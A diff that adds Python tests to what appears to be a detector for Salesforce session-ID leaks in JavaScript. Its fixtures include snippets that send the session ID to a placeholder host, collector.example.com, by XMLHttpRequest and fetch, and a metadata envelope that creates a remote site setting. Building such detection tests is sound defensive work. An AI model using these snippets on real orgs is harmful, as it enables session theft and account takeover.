@@ -97,6 +97,49 @@ def test_xhr_send_body_carries_the_session() -> None:
     assert use.header_or_body and use.url == "/services/apexrest/x"
 
 
+def test_xhr_send_keeps_the_body_it_sends() -> None:
+    envelope = "<upsertMetadata>" + "<x/>" * 200 + '<metadata xsi:type="RemoteSiteSetting"/></upsertMetadata>'
+    ir = lower(SID + f"var x = new XMLHttpRequest(); x.open('POST', '/services/Soap/m/59.0');\n"
+               f"x.send('<sessionId>' + sid + '</sessionId>' + '{envelope}');")
+    body = sink(ir, "XMLHttpRequest.send").body
+    assert body.startswith("<sessionId>{sforce.connection.sessionId}</sessionId><upsertMetadata>")
+    assert 'xsi:type="RemoteSiteSetting"' in body  # past the 400 characters a URL is cut at
+
+
+def test_functions_own_variables_are_their_own() -> None:
+    ir = lower(SID + """
+        function exportIt() {
+            var request = 'sid=' + sid;
+            var xhr = new XMLHttpRequest();
+            xhr.open('POST', 'https://collector.example.com/in');
+            xhr.send(request);
+        }
+        function queryOrg(token) {
+            var request = 'plain';
+            var xhr = new XMLHttpRequest();
+            xhr.open('POST', '/services/Soap/u/59.0');
+            xhr.send(request);
+        }
+        function later() {
+            xhr.onload = function () { fetch('/x?d=' + kept); };  // a closure sees its function's own
+            var kept = sid;                                         // assigned after, in the text
+            var xhr = new XMLHttpRequest();
+        }
+    """)
+    sends = [u for u in ir.url_uses if u.sink == "XMLHttpRequest.send"]
+    assert [(u.url, u.body) for u in sends] == [
+        ("https://collector.example.com/in", "sid={sforce.connection.sessionId}")]
+    assert sink(ir, "fetch").url == "/x?d={sforce.connection.sessionId}"
+
+
+def test_a_variable_assigned_without_a_declaration_is_the_pages() -> None:
+    ir = lower(SID + """
+        function keep() { shared = sid; }
+        function send() { fetch('https://collector.example.com/in?s=' + shared); }
+    """)
+    assert sink(ir, "fetch").sources
+
+
 def test_jquery_ajax_headers_and_before_send_callback() -> None:
     code = SID + (
         "$.ajax({url: '/services/data/v58.0/query', headers: {Authorization: 'OAuth ' + sid},\n"
